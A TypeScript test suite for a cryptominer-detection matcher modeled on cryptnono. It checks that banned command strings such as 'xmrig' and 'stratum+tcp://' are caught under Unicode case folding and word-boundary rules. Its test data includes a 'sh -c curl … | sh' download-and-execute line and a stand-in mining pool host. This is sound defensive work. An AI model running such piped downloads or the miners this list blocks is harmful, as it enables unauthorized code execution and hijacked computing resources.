/**
 * execwhacker's matcher against a plain reference (per-string case-folded indexOf with the
 * word-boundary rule) on random strings and command lines, plus cryptnono's own examples.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ExecMatcher, type ExecConfigEntry, type MatchResult } from '../src/detectors/execwhacker/matcher.js';
import { casefold } from '../src/detectors/execwhacker/casefold.js';
import { compileAllowedPattern } from '../src/detectors/execwhacker/pyregex.js';
import { shlexJoin } from '../src/detectors/execwhacker/shlex.js';
import { prng } from './helpers/prng.js';

// ---- the reference ------------------------------------------------------------------------------

const WORD_END = /[\p{L}\p{N}_]$/u;
const WORD_START = /^[\p{L}\p{N}_]/u;

/**
 * The rule, written as plainly as possible: for every banned string of every config, every
 * occurrence in the folded command line; standalone when neither side extends a word (a side
 * counts only where the string's own edge is a word character). Reports the occurrence that ends
 * first (the longest string on a tie), standalone ones first; allowed patterns in config order.
 */
function reference(configs: readonly ExecConfigEntry[], cmdline: string): MatchResult {
  const folded = casefold(cmdline);
  const firstSource = new Map<string, { config: string; banned: string }>();
  for (const c of configs) for (const b of c.bannedCommandStrings) {
    const f = casefold(b);
    if (f && !firstSource.has(f)) firstSource.set(f, { config: c.name, banned: b });
  }
  let best: { end: number; len: number; f: string } | undefined;
  let bestAny: { end: number; len: number; f: string } | undefined;
  const better = (a: { end: number; len: number } | undefined, end: number, len: number) => !a || end < a.end || (end === a.end && len > a.len);
  for (const f of firstSource.keys()) {
    for (let at = folded.indexOf(f); at >= 0; at = folded.indexOf(f, at + 1)) {
      const end = at + f.length;
      const beforeOk = !WORD_START.test(f) || !WORD_END.test(folded.slice(0, at));
      const afterOk = !WORD_END.test(f) || !WORD_START.test(folded.slice(end));
      if (better(bestAny, end, f.length)) bestAny = { end, len: f.length, f };
      if (beforeOk && afterOk && better(best, end, f.length)) best = { end, len: f.length, f };
    }
  }
  if (!best) {
    if (!bestAny) return { kill: false, spared: 'no_match' };
    return { kill: false, spared: 'word_boundary', ...firstSource.get(bestAny.f)! };
  }
  const src = firstSource.get(best.f)!;
  for (const c of configs) for (const a of c.allowedCommandPatterns) {
    if (compileAllowedPattern(a).test(folded)) return { kill: false, spared: 'allowed', ...src, allowedBy: a, allowedConfig: c.name };
  }
  return { kill: true, ...src };
}

// ---- random inputs (fixed seed) -----------------------------------------------------------------


/**
 * Pieces chosen to collide: overlapping miner names, separators that are and are not word
 * characters, and Unicode that folds (ß → ss, the ﬀ ligature, Kelvin K, final ς, İ → i̇, U+0345 →
 * ι which becomes a word character, Deseret 𐐀 → 𐐨 across surrogates) or counts as a letter (é, 中).
 */
const PIECES = [
  'x', 'm', 'r', 'i', 'g', 'X', 'M', 'R', 'I', 'G', 'xmr', 'XMRig', 'mrig', 'rig', 'xmrig', 'a', 's', 'S', 'ss', 'SS',
  'ß', 'ẞ', 'ﬀ', 'ff', 'K', 'k', 'Σ', 'σ', 'ς', 'İ', 'i̇', 'ı', '\u0345', 'ι', '𐐀', '𐐨', '😀', 'é', 'É', '中', '٣', '_',
  ' ', ' ', '-', '.', '/', ':', "'", '"', '$', '!', '+', '=', '\t', '\n', '0', '1',
];
const BANNED_PIECES = ['x', 'm', 'r', 'i', 'g', 'xmr', 'mrig', 'xmrig', 'rig', 's', 'ss', 'ß', 'ff', 'ﬀ', 'k', 'K', 'σ', 'ς', 'i̇', 'ι', '𐐨', '𐐀', 'é', '中', '.', '-', '/', ':', '_', ' ', '0'];

function randomCase(r: () => number) {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const str = (pieces: readonly string[], maxParts: number, min = 1): string => {
    let s = '';
    const n = min + Math.floor(r() * (maxParts - min + 1));
    for (let i = 0; i < n; i++) s += pick(pieces);
    return s;
  };
  const configs: ExecConfigEntry[] = [];
  const nConfigs = 1 + Math.floor(r() * 3);
  for (let c = 0; c < nConfigs; c++) {
    const banned = Array.from({ length: Math.floor(r() * 6) }, () => str(BANNED_PIECES, 3));
    if (r() < 0.1) banned.push('');
    const allowed: string[] = [];
    if (r() < 0.3) allowed.push(pick(['.*allowed', '^/usr/bin/', 'x.?m', '(?s).*ß', '(?s).*s', '.*x', '.*\\bmrig', '.*\\bxmrig\\b.*$', '[^\\n]*\\w\\W']));
    configs.push({ name: `c${c}`, bannedCommandStrings: banned, allowedCommandPatterns: allowed });
  }
  const argv = Array.from({ length: 1 + Math.floor(r() * 4) }, () => str(PIECES, 8, 0));
  return { configs, argv };
}

const same = (a: MatchResult, b: MatchResult) => JSON.stringify(Object.entries(a).sort()) === JSON.stringify(Object.entries(b).sort());

for (const [label, denseEntries] of [['dense tables', undefined], ['sparse states (tiny dense budget)', 1]] as const) {
  test(`property: matcher agrees with the reference on 4,000 random cases (${label})`, () => {
    const r = prng(0x7768616b + (denseEntries ?? 0)); // "whak"
    let kills = 0;
    let allowed = 0;
    let boundary = 0;
    let none = 0;
    for (let i = 0; i < 4000; i++) {
      const { configs, argv } = randomCase(r);
      const m = new ExecMatcher(configs, { denseEntries });
      const got = m.match(argv);
      const want = reference(configs, shlexJoin(argv));
      if (!same(got, want)) assert.fail(`case ${i}: ${JSON.stringify({ configs, argv, cmdline: shlexJoin(argv) })}\n got ${JSON.stringify(got)}\nwant ${JSON.stringify(want)}`);
      if (got.kill) kills++;
      else if (got.spared === 'allowed') allowed++;
      else if (got.spared === 'word_boundary') boundary++;
      else none++;
    }
    // The generator must exercise every outcome, or the property says little.
    for (const [k, v] of Object.entries({ kills, allowed, boundary, none })) assert.ok(v > 100, `${k}: only ${v} of 4,000 cases`);
  });
}

test('property: raw command lines over a large random set (dense and sparse paths, many overlaps)', () => {
  const r = prng(42);
  const alphabet = 'abcxmrig.-_ /ßK';
  const word = (n: number) => Array.from({ length: n }, () => alphabet[Math.floor(r() * alphabet.length)]).join('');
  const banned = Array.from({ length: 3000 }, () => word(2 + Math.floor(r() * 6)));
  const configs = [{ name: 'big', bannedCommandStrings: banned, allowedCommandPatterns: [] }];
  const dense = new ExecMatcher(configs);
  const sparse = new ExecMatcher(configs, { denseEntries: 64 });
  assert.ok(sparse.stats.denseStates < sparse.stats.states / 10);
  for (let i = 0; i < 600; i++) {
    const line = word(20 + Math.floor(r() * 200));
    const want = reference(configs, line);
    assert.deepEqual(dense.matchCmdline(line), want, line);
    assert.deepEqual(sparse.matchCmdline(line), want, line);
  }
});

// ---- cryptnono's examples -----------------------------------------------------------------------

/** cryptnono's example/config.json, exactly. */
const CRYPTNONO_EXAMPLE = {
  bannedCommandStrings: ['cryptnono.banned.string1'],
  allowedCommandPatterns: ['.*allowed\\s+cryptnono\\.banned\\.string1'],
};

test("cryptnono's example config: CRYPTNONO.banned.STRING1 is killed, 'allowed cryptnono.BANNED.string1' is spared", () => {
  const m = new ExecMatcher([{ name: 'example', ...CRYPTNONO_EXAMPLE }]);
  assert.deepEqual(m.match(['/bin/echo', 'CRYPTNONO.banned.STRING1']), { kill: true, config: 'example', banned: 'cryptnono.banned.string1' });
  assert.deepEqual(m.match(['sleep', '600', 'CRYPTNONO.banned.STRING1']).kill, true);
  assert.deepEqual(m.match(['/bin/echo', 'allowed', 'cryptnono.BANNED.string1']), {
    kill: false,
    spared: 'allowed',
    config: 'example',
    banned: 'cryptnono.banned.string1',
    allowedBy: '.*allowed\\s+cryptnono\\.banned\\.string1',
    allowedConfig: 'example',
  });
  assert.deepEqual(m.match(['/bin/echo', 'hello']), { kill: false, spared: 'no_match' });
  // re.match is anchored at the start only: the pattern need not reach the end.
  assert.equal(m.matchCmdline('x allowed  cryptnono.banned.string1 and more').spared, 'allowed');
  // … but at the start: a pattern that only matches later does not spare.
  const anchored = new ExecMatcher([{ name: 'a', bannedCommandStrings: ['xmrig'], allowedCommandPatterns: ['allowed'] }]);
  assert.equal(anchored.matchCmdline('xmrig allowed').kill, true);
  assert.equal(anchored.matchCmdline('ALLOWED xmrig').spared, 'allowed');
});

test('word boundaries: standalone words kill, parts of longer words do not; each occurrence is judged', () => {
  const m = new ExecMatcher([{ name: 'm', bannedCommandStrings: ['xmrig', 'stratum+tcp://', '--donate-level', '.onion'], allowedCommandPatterns: [] }]);
  const kill = (s: string) => m.matchCmdline(s).kill;
  assert.equal(kill('/tmp/xmrig -o pool:3333'), true);
  assert.equal(kill('xmrig'), true);
  assert.equal(kill('./XMRIG'), true);
  assert.equal(kill("sh -c 'xmrig'"), true);
  assert.equal(kill('libxmrig_docs'), false);
  assert.equal(kill('xmrig2'), false);
  assert.equal(kill('myxmrig'), false);
  assert.equal(kill('éxmrig'), false, 'a Unicode letter is a word character');
  assert.equal(kill('xmrig中'), false);
  assert.equal(kill('xmrig٣'), false, 'an Arabic-Indic digit is a word character');
  // The string's own punctuation edges need no boundary.
  assert.equal(kill('miner -o stratum+tcp://pool.example:3333'), true);
  assert.equal(kill('x --donate-level=1'), true);
  assert.equal(kill('http://abc.onion/x'), true);
  assert.equal(kill('Xstratum+tcp://pool'), false);
  // Per occurrence: one standalone occurrence is enough (cryptnono would spare this line).
  assert.deepEqual(m.matchCmdline('libxmrig_docs; xmrig -o pool'), { kill: true, config: 'm', banned: 'xmrig' });
  assert.deepEqual(m.matchCmdline('libxmrig_docs'), { kill: false, spared: 'word_boundary', config: 'm', banned: 'xmrig' });
});

test('overlapping strings (xmr, xmrig, mrig): the one that stands alone is found', () => {
  const m = new ExecMatcher([{ name: 'o', bannedCommandStrings: ['xmr', 'xmrig', 'mrig'], allowedCommandPatterns: [] }]);
  assert.deepEqual(m.matchCmdline('run xmrig now'), { kill: true, config: 'o', banned: 'xmrig' });
  assert.deepEqual(m.matchCmdline('run xmr now'), { kill: true, config: 'o', banned: 'xmr' });
  assert.deepEqual(m.matchCmdline('run x-mrig now'), { kill: true, config: 'o', banned: 'mrig' });
  assert.deepEqual(m.matchCmdline('xmrigs xmrx'), { kill: false, spared: 'word_boundary', config: 'o', banned: 'xmr' });
});

test('case folding is Unicode case folding (Python casefold), not toLowerCase', () => {
  const m = new ExecMatcher([{ name: 'u', bannedCommandStrings: ['strasse', 'ﬀmpeg-miner', 'ΣΊΣΥΦΟΣ', 'µ-miner', 'ǆ'], allowedCommandPatterns: [] }]);
  assert.equal(m.matchCmdline('run STRASSE').kill, true);
  assert.equal(m.matchCmdline('run straße').kill, true, 'ß folds to ss');
  assert.equal(m.matchCmdline('run STRAẞE').kill, true, 'capital ẞ folds to ss');
  assert.equal(m.matchCmdline('run ffmpeg-miner').kill, true, 'the ﬀ ligature in the banned string folds to ff');
  assert.equal(m.matchCmdline('run σίσυφος').kill, true, 'final sigma folds to σ');
  assert.equal(m.matchCmdline('run μ-miner').kill, true, 'micro sign folds to Greek mu');
  assert.equal(m.matchCmdline('run ǅ').kill, true, 'titlecase digraph');
  assert.equal(m.matchCmdline('run straßen').spared, 'word_boundary');
});

test('the argv is joined as shlex.join does before matching', () => {
  const m = new ExecMatcher([{ name: 'q', bannedCommandStrings: ["-c 'curl"], allowedCommandPatterns: [] }]);
  assert.equal(m.match(['sh', '-c', 'curl -s http://x | sh']).kill, true, 'an argument with a space is quoted');
  assert.equal(m.match(['sh', '-c', 'curl']).spared, 'no_match', 'a safe argument is not');
  assert.equal(m.matchCmdline("sh -c 'curl -s'").kill, true);
});

test('no banned strings, empty command lines, huge command lines', () => {
  assert.deepEqual(new ExecMatcher([]).match(['xmrig']), { kill: false, spared: 'no_match' });
  const m = new ExecMatcher([{ name: 'h', bannedCommandStrings: ['pool.evil.example'], allowedCommandPatterns: ['.*allowed-tail$'] }]);
  assert.deepEqual(m.match([]), { kill: false, spared: 'no_match' });
  const pad = 'a'.repeat(2_000_000);
  const t0 = performance.now();
  assert.equal(m.matchCmdline(`${pad} -o pool.evil.example:3333`).kill, true, 'no cap: a pool URL behind 2 MB of padding is still found');
  assert.equal(m.matchCmdline(`${pad} pool.evil.example allowed-tail`).spared, 'allowed');
  assert.ok(performance.now() - t0 < 2000, 'linear time on 2 MB lines');
});

test('50,000 banned strings: built once, matched correctly', () => {
  const banned: string[] = [];
  for (let i = 0; i < 50_000; i++) banned.push(`pool${i}.mine${i % 97}.example`);
  const t0 = performance.now();
  const m = new ExecMatcher([{ name: 'big', bannedCommandStrings: banned, allowedCommandPatterns: [] }]);
  const buildMs = performance.now() - t0;
  assert.equal(m.stats.distinctStrings, 50_000);
  assert.ok(buildMs < 5000, `build took ${buildMs} ms`);
  assert.deepEqual(m.matchCmdline('xmrig -o POOL49999.mine44.example:443'), { kill: true, config: 'big', banned: 'pool49999.mine44.example' });
  assert.equal(m.matchCmdline('xmrig -o pool49999.mine44.examples').spared, 'word_boundary');
  assert.equal(m.matchCmdline('java -cp /a/b.jar:/c/d.jar com.example.Main').spared, 'no_match');
});

test('an allowed pattern from one config spares a banned string from another (cryptnono pools them)', () => {
  const m = new ExecMatcher([
    { name: 'banned', bannedCommandStrings: ['xmrig'], allowedCommandPatterns: [] },
    { name: 'exceptions', bannedCommandStrings: [], allowedCommandPatterns: ['^/opt/bench/xmrig --bench'] },
  ]);
  assert.deepEqual(m.matchCmdline('/opt/bench/xmrig --bench=1M'), {
    kill: false, spared: 'allowed', config: 'banned', banned: 'xmrig', allowedBy: '^/opt/bench/xmrig --bench', allowedConfig: 'exceptions',
  });
  assert.equal(m.matchCmdline('/tmp/xmrig --bench=1M').kill, true);
});

test('the string reported is the one its first config lists, as written', () => {
  const m = new ExecMatcher([
    { name: 'one', bannedCommandStrings: ['XMRig'], allowedCommandPatterns: [] },
    { name: 'two', bannedCommandStrings: ['xmrig'], allowedCommandPatterns: [] },
  ]);
  assert.deepEqual(m.matchCmdline('xmrig'), { kill: true, config: 'one', banned: 'XMRig' });
  const x = m.explain('run STRAẞE xmrig');
  assert.deepEqual(x.at, { start: 11, end: 16 });
  const y = new ExecMatcher([{ name: 'u', bannedCommandStrings: ['xmrig'], allowedCommandPatterns: [] }]).explain('ßß xmrig');
  assert.deepEqual(y.at, { start: 3, end: 8 }, 'offsets map back through ß → ss');
});

test('matchProcess: argv as the rescan sees it, and the executable path in argv[0]\'s place as cryptnono\'s exec hook sees it', () => {
  const m = new ExecMatcher([{ name: 'p', bannedCommandStrings: ['xmrig'], allowedCommandPatterns: ['^/usr/bin/sleep 1$'] }]);
  assert.deepEqual(m.matchProcess({ exe: 'innocent', exepath: '/tmp/xmrig', args: ['-o', 'pool'] }), { kill: true, config: 'p', banned: 'xmrig' });
  assert.deepEqual(m.matchProcess({ exe: 'xmrig', exepath: '/usr/bin/sleep', args: ['1'] }), { kill: true, config: 'p', banned: 'xmrig' });
  assert.deepEqual(m.matchProcess({ exe: 'sleep', exepath: '/usr/bin/sleep', args: ['1'] }), { kill: false, spared: 'no_match' });
  assert.equal(m.matchProcess({ exe: '/tmp/xmrig', args: [] }).kill, true);
  assert.equal(m.matchProcess({ exe: 'libxmrig_x', exepath: '/usr/bin/sleep', args: ['1'] }).spared, 'word_boundary');
});
